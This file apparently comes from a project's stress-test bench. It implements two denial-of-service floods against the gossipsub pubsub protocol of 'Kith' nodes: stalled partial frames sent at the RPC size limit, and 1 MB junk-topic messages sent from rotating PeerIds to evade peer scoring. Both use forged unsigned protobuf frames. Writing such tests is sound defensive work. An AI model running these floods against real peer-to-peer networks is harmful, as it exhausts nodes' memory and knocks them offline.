// Floods on gossipsub (/meshsub/1.2.0), which every Kith node runs and answers for anyone, group
// member or not (issue 11 findings 1 and 13). Raw frames are written on streams the hostile
// nodes open themselves: the RPC protobuf (@libp2p/gossipsub src/message/rpc.proto: RPC.messages
// = 2; Message.data = 2, Message.topic = 4) is forged here, StrictNoSign style (no from, seqno or
// signature), as an attacker would.
import { randomBytes } from 'node:crypto'
import * as pubsub from '../../src/node/pubsub/index.js'
import { cat, lp, pbBytes, utf8, varint, writeAll } from './attacker.js'
import { hold, workers, type FloodContext } from './flood.js'

/** The gossipsub protocol the floods speak (gossipsub 17 still serves 1.2.0). */
export const MESHSUB_PROTOCOL = '/meshsub/1.2.0'

/**
 * Length prefix of a gossip-partial frame when main exports no MAX_PUBSUB_RPC_BYTES: the issue's
 * ≈4.5 MB. With the export, the flood sends a prefix of exactly that limit (the largest the
 * victim must accept) and all but its last byte.
 */
export const GOSSIP_PARTIAL_DEFAULT_FRAME_BYTES = 4_500_000
/**
 * Partial frames one run opens (each from a fresh PeerId). The 150 took a daemon to
 * ≈1 GB; 200 shows the same pin while keeping the bench's own damage to a shared machine bounded.
 */
export const GOSSIP_PARTIAL_MAX_STREAMS = 200
/** Data bytes of one junk-topics message (the issue: 1 MB messages). */
export const JUNK_MESSAGE_BYTES = 1_000_000
/** Junk messages one run publishes (the 1,484 took RSS to 690 MB). */
export const JUNK_MAX_MESSAGES = 3_000
/** Messages per hostile identity before it is replaced by a fresh one (peer scores are per
 *  PeerId; a new identity starts at zero). */
export const JUNK_MESSAGES_PER_IDENTITY = 32

/** The victim's RPC limit if main exports it (another helper may rename or retune it). */
function rpcLimit(): number {
  const v = (pubsub as Record<string, unknown>).MAX_PUBSUB_RPC_BYTES
  return typeof v === 'number' && v > 1 ? v : GOSSIP_PARTIAL_DEFAULT_FRAME_BYTES
}

/** Finding 1: fresh PeerIds each open /meshsub/1.2.0, send a length prefix at the RPC limit and
 *  all but one byte of the frame, then go silent until the deadline. */
export async function gossipPartial(cx: FloodContext): Promise<void> {
  const frameBytes = rpcLimit()
  const body = new Uint8Array(frameBytes - 1)
  const cap = cx.smoke ? 20 : GOSSIP_PARTIAL_MAX_STREAMS
  let started = 0
  cx.stats.note = `frames of ${frameBytes} B`
  await workers(cx, 4, async () => {
    if (started >= cap) return false
    started++
    const h = await cx.pool.spawn()
    const conn = await cx.pool.connect(h)
    const s = await cx.pool.stream(conn, MESHSUB_PROTOCOL)
    await writeAll(s, varint(frameBytes), cx.stats, cx.signal)
    await writeAll(s, body, cx.stats, cx.signal)
    cx.stats.ops++
    return true
  })
  if (started >= cap) cx.stats.note += `; cap of ${cap} streams reached`
  await hold(cx)
}

/** Finding 13: 1 MB messages on random topics (no validator: they enter the message cache). */
export async function junkTopics(cx: FloodContext): Promise<void> {
  const cap = cx.smoke ? 100 : JUNK_MAX_MESSAGES
  const data = randomBytes(JUNK_MESSAGE_BYTES)
  let sent = 0
  await workers(cx, 2, async () => {
    if (sent >= cap) return false
    const h = await cx.pool.spawn()
    const conn = await cx.pool.connect(h)
    const s = await cx.pool.stream(conn, MESHSUB_PROTOCOL)
    for (let i = 0; i < JUNK_MESSAGES_PER_IDENTITY && sent < cap && !cx.signal.aborted; i++) {
      sent++
      // Distinct data, distinct message id (SHA-256 of the data).
      data.writeUInt32BE(sent, 0)
      data.writeUInt32BE(process.pid, 4)
      const topic = utf8(`junk-${randomBytes(8).toString('hex')}`)
      const message = cat(pbBytes(2, data), pbBytes(4, topic))
      await writeAll(s, lp(pbBytes(2, message)), cx.stats, cx.signal)
      cx.stats.ops++
    }
    await s.close({ signal: AbortSignal.timeout(5_000) }).catch(() => undefined)
    await cx.pool.retire(h)
    return true
  })
  if (sent >= cap) cx.stats.note = `cap of ${cap} messages reached`
  await hold(cx)
}
